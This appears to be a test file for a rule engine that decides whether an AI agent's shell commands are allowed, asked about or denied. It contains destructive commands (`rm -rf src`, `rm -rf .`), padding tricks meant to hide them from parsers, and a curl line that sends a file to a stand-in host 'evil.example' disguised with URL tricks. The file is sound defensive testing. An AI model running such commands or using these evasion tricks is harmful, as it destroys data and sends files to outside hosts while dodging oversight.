import { describe, expect, it } from 'vitest'
import { effectsOf } from '../../src/effects/effects-of.js'
import type { PresetName, Rule } from '../../src/rules/rule.js'
import { rulesInForce } from '../../src/rules/rules-in-force.js'
import { verdictOf } from '../../src/rules/verdict.js'
import { CONTEXT } from '../effects/part-of.js'

const NOW = Date.parse('2026-06-01T12:00:00Z')
const ROOTS = { project: CONTEXT.projectDir, home: CONTEXT.home }

async function verdict(command: string, rules: readonly object[], preset?: PresetName) {
  const effects = await effectsOf({ name: 'Bash', input: { command } }, CONTEXT)
  const inForce = rulesInForce({ rules: rules as readonly Rule[], ...(preset && { preset }) }, ROOTS)
  const hits = inForce.judge(effects, { permissionMode: undefined, now: NOW })
  return verdictOf(hits, effects, { may: 'all', file: 'rules.json' })
}

/** Each hides what it runs from every reader that has a limit. */
const PADDED: Readonly<Record<string, string>> = {
  'a long comment': `rm -rf src #${'x'.repeat(10_001)}`,
  'many words': `rm -rf src ${'x '.repeat(6000)}`,
  'a NUL': 'rm -rf src \0',
  'many brackets': `${'('.repeat(50)}rm -rf src${')'.repeat(50)}`,
  'nested substitutions': `${'$('.repeat(200)}rm -rf src${')'.repeat(200)}`,
  'many evals': `${'eval '.repeat(50)}rm -rf src`,
  'many envs': `${'env '.repeat(60)}rm -rf src`,
}

describe.each(Object.entries(PADDED))('a command that is not read, because of %s', (_, command) => {
  it.each([
    { id: 'd', effects: ['delete'], of: ['src/**'], then: 'deny' },
    { id: 'd', effects: ['send'], then: 'ask' },
  ])('is asked about by a rule that it may meet: $then', async (rule) => {
    const { result } = await verdict(command, [rule])
    expect(result.action).toMatch(/^(?:ask_user|deny)$/)
  })

  it.each(['relaxed', 'standard', 'careful'] as const)('is asked about by %s', async (preset) => {
    const { result } = await verdict(command, [], preset)
    expect(result.action).toMatch(/^(?:ask_user|deny)$/)
  })
})

describe('what is not read', () => {
  const long = PADDED['a long comment'] as string
  const closing = { id: 'd', effects: ['delete'], then: 'deny' }

  it('says which rule it may meet, and why it is not read', async () => {
    const { result } = await verdict(long, [closing])
    expect(result.reason).toMatch(/^The rule d asks first, because it may be met: .* too long to parse/)
  })

  it('goes on where a rule says so, and where no rule forbids or asks', async () => {
    const known = { id: 'u', effects: ['unknown'], where: { unparsed: true }, then: 'allow' }
    expect((await verdict(long, [closing, known])).result.action).toBe('continue')
    expect((await verdict(long, [{ ...closing, then: 'tell', say: 'x' }])).result.action).toBe('continue')
    expect((await verdict(long, [{ ...closing, until: '2026-01-01' }])).result.action).toBe('continue')
    expect((await verdict(long, [{ ...closing, in: { modes: ['plan'] } }])).result.action).toBe('continue')
  })

  it.each([
    { then: 'tell', say: 'x' },
    { then: 'allow', mode: 'shadow' },
    { then: 'allow', where: { unparsed: false } },
    { then: 'allow', until: '2026-01-01' },
  ])('is asked about if a rule about it does not decide: %o', async (more) => {
    const unknown = { id: 'u', effects: ['unknown'], ...more }
    expect((await verdict(long, [closing, unknown])).result.action).toBe('ask_user')
  })

  it('is only told of a rule in shadow mode, which does not stand for the others', async () => {
    const shadow = { ...closing, id: 's', mode: 'shadow' }
    expect(await verdict(long, [shadow])).toMatchObject({
      result: { action: 'continue' },
      shadows: [expect.stringContaining('rule s')],
    })
    expect((await verdict(long, [shadow, closing])).result.action).toBe('ask_user')
  })
})

describe('a rule about what is below a folder', () => {
  const below = { id: 'b', effects: ['delete', 'move'], of: ['src/**'], then: 'deny' }

  it.each(['rm -rf src', 'rm -rf src/', 'rm -r ./src/.', 'mv src /tmp/x', 'rm -rf .', 'rm src/a'])(
    'means %s',
    async (command) => {
      expect((await verdict(command, [below])).result.action).toBe('deny')
    },
  )
})

describe('the host of an address', () => {
  const elsewhere = { id: 'h', effects: ['send'], except: ['localhost', 'api.example.com'], then: 'deny' }

  it.each(['#', '?', '/', '\\\\'])('ends before %s', async (mark) => {
    for (const host of ['localhost', 'api.example.com']) {
      const command = `curl -d @x 'https://evil.example${mark}@${host}'`
      expect((await verdict(command, [elsewhere])).result.action, command).toBe('deny')
    }
  })
})
